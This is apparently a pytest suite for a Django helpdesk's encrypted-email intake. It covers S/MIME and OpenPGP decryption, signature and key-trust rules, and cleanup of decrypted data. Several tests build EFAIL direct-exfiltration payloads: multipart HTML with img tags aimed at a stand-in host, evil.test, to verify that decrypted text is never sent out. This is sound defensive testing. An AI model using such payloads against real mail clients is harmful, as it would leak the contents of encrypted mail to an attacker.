"""Protected mails through the whole intake: a ticket each, with its state; what was secret is where it belongs only."""

import logging
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from datetime import timedelta
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from django.db import connection

from tests.cast import Cast
from tests.channels.email.conftest import make_mail
from tests.channels.email.protection.gnupg import Gpg
from tests.channels.email.protection.openssl import Authority, Issued
from tests.channels.email.protection.test_openpgp import detached, encrypted, signed
from tresen.channels.email import intake
from tresen.channels.email.intake import process, take
from tresen.channels.email.models import Inbound, InboundState, Key, KeySource, Trust
from tresen.channels.email.protection import keyring, openpgp, reasons, shelter, uncovering
from tresen.channels.email.protection.reading import read_file
from tresen.kit import blobs, clock
from tresen.tickets.models import Message

Arrive = Callable[..., Inbound]
SECRET = "Kanarienvogel4711"
BODY = f"Content-Type: text/plain; charset=utf-8\r\n\r\nDas Kennwort ist {SECRET}.\r\n".encode()
HEAD = (
    b"From: Karla <karla@klinikum.test>\r\nTo: support@desk.test\r\nSubject: Vertraulich\r\nMessage-ID: <%d@k.test>\r\n"
)


@pytest.fixture
def house(cast: Cast, authority: Authority, support: Issued, support_pgp: str) -> Cast:
    """A mailbox with both keys, and an authority the administrator trusts."""
    both = (support.certificate + support.private).encode()
    keyring.add_own(cast.mailbox, read_file(both)[0], by=cast.actor("admin"))
    keyring.add_own(cast.mailbox, read_file(support_pgp.encode())[0], by=cast.actor("admin"))
    keyring.add_authority(read_file(authority.certificate.encode())[0], by=cast.actor("admin"))
    return cast


def smime(authority: Authority, support: Issued, body: bytes = BODY, number: int = 1) -> bytes:
    return HEAD % number + authority.encrypt(body, support.certificate, way=("-binary", "-aes256"))


def protection(inbound: Inbound) -> dict[str, Any]:
    assert inbound.message is not None, inbound.reason
    return inbound.message.facts["protection"]


def test_an_encrypted_mail_becomes_a_readable_message(
    house: Cast, arrive: Arrive, authority: Authority, support: Issued
) -> None:
    raw = smime(authority, support)
    inbound = arrive(raw)
    assert inbound.message is not None
    assert SECRET in inbound.message.text
    assert protection(inbound) == {
        "kind": "smime",
        "signed": "",
        "signer": "",
        "signed_by_sender": False,
        "encrypted": True,
        "reason": "",
    }
    assert inbound.message.attachments.count() == 0
    assert inbound.message.raw is not None
    assert blobs.read(inbound.message.raw) == raw


def test_openpgp_signed_and_encrypted(house: Cast, arrive: Arrive, gpg: Gpg, karla_pgp: tuple[str, str]) -> None:
    keyring.add_public("karla@klinikum.test", read_file(karla_pgp[0].encode())[0], by=house.actor("admin"))
    told = ("--armor", "--sign", "--encrypt", "-u", "karla@klinikum.test", "-r", "support@desk.test")
    inbound = arrive(encrypted(gpg.run(*told, given=BODY)))
    assert inbound.message is not None
    assert SECRET in inbound.message.text
    facts = protection(inbound)
    assert (facts["kind"], facts["signed"], facts["signed_by_sender"]) == ("pgp", "good", True)


def test_a_signature_of_somebody_else_is_not_the_senders(house: Cast, arrive: Arrive, authority: Authority) -> None:
    mallory = authority.issue("mallory@werk.test")
    facts = protection(arrive(HEAD % 2 + authority.sign(BODY, mallory, "-binary")))
    assert (facts["signed"], facts["signed_by_sender"], facts["signer"]) == ("good", False, "mallory@werk.test")
    assert facts["reason"] == reasons.OTHER_SENDER
    assert not Key.objects.filter(address="karla@klinikum.test").exists()


def test_two_senders_and_one_signature_prove_nothing(
    house: Cast, arrive: Arrive, authority: Authority, karla: Issued
) -> None:
    raw = HEAD % 3 + authority.sign(BODY, karla, "-binary")
    raw = raw.replace(b"Karla <karla@klinikum.test>", b"mona@klinikum.test, Karla <karla@klinikum.test>")
    assert not protection(arrive(raw))["signed_by_sender"]


def test_a_key_found_missing_is_looked_up_by_its_id(
    house: Cast, arrive: Arrive, gpg: Gpg, karla_pgp: tuple[str, str]
) -> None:
    """A key noted for another address: who it was can be said, but not that it was the sender."""
    keyring.add_public("buero@klinikum.test", read_file(karla_pgp[0].encode())[0], by=house.actor("admin"))
    facts = protection(arrive(signed(detached(gpg))))
    assert (facts["signed"], facts["signer"], facts["signed_by_sender"]) == ("good", "buero@klinikum.test", False)


@pytest.mark.parametrize("case", ["other", "damaged", "huge"])
def test_what_cannot_be_opened_is_a_ticket_with_its_reason(
    case: str, house: Cast, arrive: Arrive, authority: Authority, karla: Issued, support: Issued,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    raw = smime(authority, karla if case == "other" else support)
    if case == "damaged":
        raw = raw[: len(raw) // 2] + b"\n"
    if case == "huge":
        monkeypatch.setattr("tresen.channels.email.protection.guarded.LARGEST", 100)
    inbound = arrive(raw)
    assert inbound.ticket is not None
    expected = {"other": reasons.NO_KEY, "damaged": reasons.BROKEN, "huge": reasons.TOO_LARGE}
    assert protection(inbound)["reason"] == expected[case]
    assert inbound.message is not None
    assert [one.name for one in inbound.message.attachments.all()] == ["smime.p7m"]


def test_a_mail_that_costs_too_much_is_a_ticket_too(
    house: Cast, arrive: Arrive, authority: Authority, support: Issued, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tresen.channels.email.protection.guarded.PATIENCE", 0.01)
    assert protection(arrive(smime(authority, support)))["reason"] == reasons.TOO_COSTLY


def test_the_key_of_another_mailbox_does_not_open_it(
    house: Cast, arrive: Arrive, authority: Authority, support: Issued
) -> None:
    """Whoever got hold of a mail for one team cannot have it read by sending it to another."""
    from tresen.channels.email.models import Mailbox

    other = Mailbox.objects.create(name="Netze", address="netze@desk.test", team=house.other_team)
    Key.objects.filter(kind="smime", mailbox=house.mailbox).update(mailbox=other, address=other.address)
    inbound = arrive(smime(authority, support))
    assert protection(inbound)["reason"] == reasons.NO_KEY
    assert inbound.message is not None
    assert SECRET not in inbound.message.text


EFAIL = (
    b'Content-Type: multipart/mixed; boundary="BB"\r\n\r\n--BB\r\nContent-Type: text/html\r\n\r\n'
    b'<img src="http://evil.test/?x=\r\n--BB\r\n%s\r\n--BB\r\nContent-Type: text/html\r\n\r\n">\r\n--BB--\r\n'
)


def test_outside_html_never_meets_what_was_decrypted(
    house: Cast, arrive: Arrive, authority: Authority, support: Issued, gpg: Gpg
) -> None:
    """EFAIL, direct exfiltration: the encrypted part between two pieces of HTML is left shut."""
    inner = authority.encrypt(BODY, support.certificate, way=("-binary", "-aes256"))
    message = gpg.run("--armor", "--encrypt", "-r", "support@desk.test", given=BODY)
    pgp_part = encrypted(message).split(b"MIME-Version: 1.0\r\n", 1)[1]
    armoured = b"Content-Type: text/plain\r\n\r\n" + message
    for number, part in enumerate((inner, pgp_part, armoured), 10):
        inbound = arrive(HEAD % number + EFAIL % part)
        assert inbound.message is not None
        whole = inbound.message.html + inbound.message.html_folded + inbound.message.text
        assert SECRET not in whole
        assert not any(SECRET.encode() in blobs.read(one.blob) for one in inbound.message.attachments.all())


def test_an_encrypted_text_is_shown_without_the_html_beside_it(house: Cast, arrive: Arrive, gpg: Gpg) -> None:
    message = gpg.run("--armor", "--encrypt", "-r", "support@desk.test", given=SECRET.encode())
    html = b'--BB\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?x=\r\n--BB--\r\n'
    head = b'Content-Type: multipart/alternative; boundary="BB"\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\n'
    inbound = arrive(HEAD % 20 + b"MIME-Version: 1.0\r\n" + head + message + b"\r\n" + html)
    assert inbound.message is not None
    assert SECRET in inbound.message.text
    assert "evil.test" not in inbound.message.html + inbound.message.text


def test_the_plain_text_is_in_no_log_no_index_and_no_file_left(
    house: Cast,
    authority: Authority,
    support: Issued,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.DEBUG)
    attached = EmailMessage()
    attached.set_content(f"Das Kennwort ist {SECRET}")
    attached.add_attachment(os.urandom(300_000) + SECRET.encode(), "application", "x-test", filename="gross.bin")
    raw = smime(authority, support, attached.as_bytes().replace(b"\n", b"\r\n"), 30)
    before = _spooled()
    inbound, _ = take(raw, source="smtp", envelope_to=["support@desk.test"])
    process(inbound.pk)
    message = Message.objects.get(raw=inbound.raw)
    assert SECRET in message.text
    assert SECRET not in caplog.text
    assert SECRET not in "".join(capfd.readouterr())
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM search_entry WHERE words @@ plainto_tsquery('german', %s)", [SECRET])
        assert cursor.fetchone() == (0,)
        cursor.execute("SELECT count(*) FROM search_entry WHERE words @@ plainto_tsquery('german', 'Vertraulich')")
        assert cursor.fetchone() == (1,)
        cursor.execute("SELECT count(*) FROM tickets_event WHERE data::text LIKE %s", [f"%{SECRET}%"])
        assert cursor.fetchone() == (0,)
    assert _spooled() == before
    assert not list(shelter.MEMORY.glob(f"{shelter.PREFIX}*-{os.getpid()}-*"))


def _spooled() -> set[Path]:
    return {path for path in blobs.spool_dir().rglob("*") if path.is_file()}


def test_what_a_killed_process_had_decrypted_is_swept(tmp_path: Path, settings: Any) -> None:
    settings.DATA = str(tmp_path)
    program = (
        "import os, time, django\nfrom django.conf import settings\n"
        f"settings.configure(DATA={str(tmp_path)!r}, INSTALLED_APPS=['tresen.kit'])\ndjango.setup()\n"
        "from tresen.channels.email.protection import shelter\nfrom pathlib import Path\n"
        "with shelter.shelter() as folder:\n"
        "    Path(folder, 'mail').write_text('geheim'); print(folder, flush=True); time.sleep(60)\n"
    )
    root = Path(__file__).parents[4]
    with subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE, text=True, cwd=root) as process_:
        assert process_.stdout is not None
        folder = Path(process_.stdout.readline().strip())
        assert (folder / "mail").exists()
        process_.send_signal(signal.SIGKILL)
    assert folder.exists()
    assert shelter.sweep() >= 1
    assert not folder.exists()


def test_broken_off_between_opening_and_filing_it_is_filed_once(
    house: Cast, authority: Authority, support: Issued, monkeypatch: pytest.MonkeyPatch
) -> None:
    inbound, _ = take(smime(authority, support, number=40), source="smtp", envelope_to=["support@desk.test"])

    class PowerCut(BaseException):
        pass

    def cut(*_: Any, **__: Any) -> None:
        raise PowerCut

    monkeypatch.setattr(intake.filing, "file", cut)
    with pytest.raises(PowerCut):
        process(inbound.pk)
    monkeypatch.undo()
    assert Inbound.objects.get(pk=inbound.pk).state == InboundState.RECEIVED
    process(inbound.pk)
    process(inbound.pk)
    assert Message.objects.filter(raw=inbound.raw).count() == 1


def test_the_certificate_of_a_good_signature_may_be_used(
    house: Cast, arrive: Arrive, authority: Authority, karla: Issued
) -> None:
    inbound = arrive(HEAD % 50 + authority.sign(BODY, karla, "-binary"))
    key = Key.objects.get(address="karla@klinikum.test")
    assert (key.trust, key.source, key.found_in) == (Trust.TRUSTED, KeySource.SIGNATURE, inbound.message)
    assert keyring.usable_for("Karla@Klinikum.test").get() == key
    arrive(HEAD % 51 + authority.sign(BODY, karla, "-binary"))
    assert Key.objects.filter(address="karla@klinikum.test").count() == 1


def test_the_certificate_of_an_untrusted_signature_waits(house: Cast, arrive: Arrive, stranger: Authority) -> None:
    arrive(HEAD % 52 + stranger.sign(BODY, stranger.issue("karla@klinikum.test"), "-binary"))
    assert Key.objects.get(address="karla@klinikum.test").trust == Trust.CANDIDATE
    assert not keyring.usable_for("karla@klinikum.test").exists()


def test_a_refused_key_stays_refused(house: Cast, arrive: Arrive, authority: Authority, karla: Issued) -> None:
    arrive(HEAD % 53 + authority.sign(BODY, karla, "-binary"))
    keyring.decide(Key.objects.get(address="karla@klinikum.test"), Trust.REFUSED, by=house.actor("admin"))
    arrive(HEAD % 54 + authority.sign(BODY, karla, "-binary"))
    assert Key.objects.get(address="karla@klinikum.test").trust == Trust.REFUSED
    assert not keyring.usable_for("karla@klinikum.test").exists()


def attached_key(public: str) -> EmailMessage:
    mail = make_mail()
    mail.add_attachment(public.encode(), "application", "pgp-keys", filename="key.asc")
    return mail


def test_an_attached_key_waits_to_be_confirmed(house: Cast, arrive: Arrive, karla_pgp: tuple[str, str]) -> None:
    arrive(attached_key(karla_pgp[0]))
    key = Key.objects.get(address="karla@klinikum.test")
    assert (key.trust, key.source, key.kind) == (Trust.CANDIDATE, KeySource.ATTACHMENT, "pgp")
    keyring.decide(key, Trust.TRUSTED, by=house.actor("admin"))
    assert keyring.usable_for("karla@klinikum.test").get() == key
    assert Key.objects.get(pk=key.pk).trusted_by == house.admin


def test_a_key_of_another_address_is_not_taken(house: Cast, arrive: Arrive) -> None:
    arrive(attached_key(openpgp.public_of(openpgp.generate("Chef", "chef@klinikum.test", 86400))))
    assert not Key.objects.filter(mailbox=None, authority=False).exists()


def test_a_revocation_that_comes_by_mail_is_heeded(house: Cast, arrive: Arrive) -> None:
    from pysequoia import Cert, Tsk

    private = Tsk.generate("Karla <karla@klinikum.test>")
    cert = private.extract_certificate()
    key = keyring.add_public("karla@klinikum.test", read_file(str(cert).encode())[0], by=house.actor("admin"))
    revoked = Cert.from_bytes(bytes(cert) + bytes(cert.revoke(private.certifier())))
    arrive(attached_key(str(revoked)))
    key.refresh_from_db()
    assert key.revoked
    assert not keyring.usable_for("karla@klinikum.test").exists()


def test_autocrypt_is_a_candidate(house: Cast, arrive: Arrive, karla_pgp: tuple[str, str]) -> None:
    data = " ".join(karla_pgp[0].split("\n\n", 1)[1].split("\n=")[0].split())
    arrive(make_mail(Autocrypt=f"addr=karla@klinikum.test; prefer-encrypt=mutual; keydata={data}"))
    key = Key.objects.get(address="karla@klinikum.test")
    assert (key.trust, key.source) == (Trust.CANDIDATE, KeySource.AUTOCRYPT)


def test_keys_cannot_be_heaped_up(house: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(keyring, "MOST_CANDIDATES", 2)
    for number in range(4):
        public = openpgp.public_of(openpgp.generate(str(number), "karla@klinikum.test", 86400))
        read = read_file(public.encode())[0]
        keyring.add_found("karla@klinikum.test", read, source=KeySource.AUTOCRYPT, message=None, trusted=False)
    assert Key.objects.filter(address="karla@klinikum.test").count() == 2


def test_a_dump_holds_no_private_key(house: Cast, support: Issued, support_pgp: str) -> None:
    from django.core import serializers

    dump = serializers.serialize("json", Key.objects.all())
    assert "PRIVATE" not in dump
    assert support.private.splitlines()[5] not in dump
    assert support_pgp.splitlines()[12] not in dump
    assert {one.private.splitlines()[0] for one in Key.objects.filter(mailbox=house.mailbox)} == {
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----",
    }


def test_a_key_expires_when_the_mail_came_not_when_it_is_read(house: Cast, authority: Authority, karla: Issued) -> None:
    """Processed again a year later, a mail that was signed well is still signed well."""
    inbound, _ = take(
        HEAD % 60 + authority.sign(BODY, karla, "-binary"), source="smtp", envelope_to=["support@desk.test"]
    )
    assert uncovering.uncover(inbound).as_facts()["signed"] == "good"  # type: ignore[union-attr]
    inbound.received_at = clock.now() + timedelta(days=500)
    assert uncovering.uncover(inbound).as_facts()["signed"] == "expired"  # type: ignore[union-attr]


def test_an_encrypted_mail_asks_the_web_for_nothing(
    house: Cast, arrive: Arrive, authority: Authority, support: Issued, karla: Issued
) -> None:
    """EFAIL, by altered ciphertext: nobody can be led to fetch an address that carries the words away."""
    from tresen.channels.email.models import PictureConsent
    from tresen.channels.email.pictures import allow, is_always_allowed
    from tresen.tickets.change import Refused

    PictureConsent.objects.create(sender="karla@klinikum.test", by=house.agent)
    html = b'Content-Type: text/html\r\n\r\n<p>Hallo</p><img src="http://evil.test/?x=geheim" width=300 height=200>\r\n'
    unsigned = arrive(smime(authority, support, html, 70)).message
    signed_ = arrive(smime(authority, support, authority.sign(html, karla, "-binary"), 71)).message
    assert unsigned is not None
    assert signed_ is not None
    assert not is_always_allowed(unsigned)
    assert is_always_allowed(signed_)
    with pytest.raises(Refused):
        allow(unsigned, by=house.actor("agent"))
